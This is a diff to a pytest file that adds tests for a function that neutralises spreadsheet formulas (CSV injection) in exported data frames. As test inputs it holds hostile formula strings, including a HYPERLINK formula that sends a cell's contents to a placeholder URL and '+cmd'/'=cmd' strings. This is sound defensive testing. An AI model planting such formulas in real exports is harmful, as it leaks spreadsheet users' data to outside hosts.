@@ -11,7 +11,14 @@ import pytest
 from csc_metrics.catalogue import indicator_table, unit_table
 from csc_metrics.dates import collection_year, format_date, parse_period_end, period_label
 from csc_metrics.errors import ParameterError
-from csc_metrics.formatting import format_cell, format_count, format_money, format_value, in_words
+from csc_metrics.formatting import (
+    format_cell,
+    format_count,
+    format_money,
+    format_value,
+    in_words,
+    neutralise_formulas,
+)
 
 
 def test_every_indicator_unit_is_declared():
@@ -105,3 +112,32 @@ def test_parse_period_end():
 )
 def test_format_money(value, short, text):
     assert format_money(value, short=short) == text
+
+
+# --- neutralise_formulas (OWASP CSV injection) ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", '=HYPERLINK("http://x?d="&A2,"x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+)
+def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
+    safe = neutralise_formulas(pd.DataFrame({"PLACE_PROVIDER": [text]}))
+    assert safe["PLACE_PROVIDER"].tolist() == ["'" + text]
+
+
+@pytest.mark.parametrize("text", ["-12", "-0.5", "+3", "-1,234.0", "plain", "a=b", ""])
+def test_numbers_as_text_and_ordinary_text_are_left_alone(text):
+    assert neutralise_formulas(pd.DataFrame({"value": [text]}))["value"].tolist() == [text]
+
+
+def test_number_columns_stay_numbers_and_blanks_stay_blank():
+    frame = pd.DataFrame({"n": [-3, 4], "x": [-0.5, None], "t": [None, "=1"]})
+    safe = neutralise_formulas(frame)
+    assert safe["n"].tolist() == [-3, 4] and safe["n"].dtype == frame["n"].dtype
+    assert safe["x"].iloc[0] == -0.5 and pd.isna(safe["x"].iloc[1])
+    assert pd.isna(safe["t"].iloc[0]) and safe["t"].iloc[1] == "'=1"
+    assert frame["t"].iloc[1] == "=1"  # the frame given is not changed
+
+
+def test_a_heading_that_is_a_formula_is_neutralised_too():
+    assert list(neutralise_formulas(pd.DataFrame({"=cmd": [1]})).columns) == ["'=cmd"]
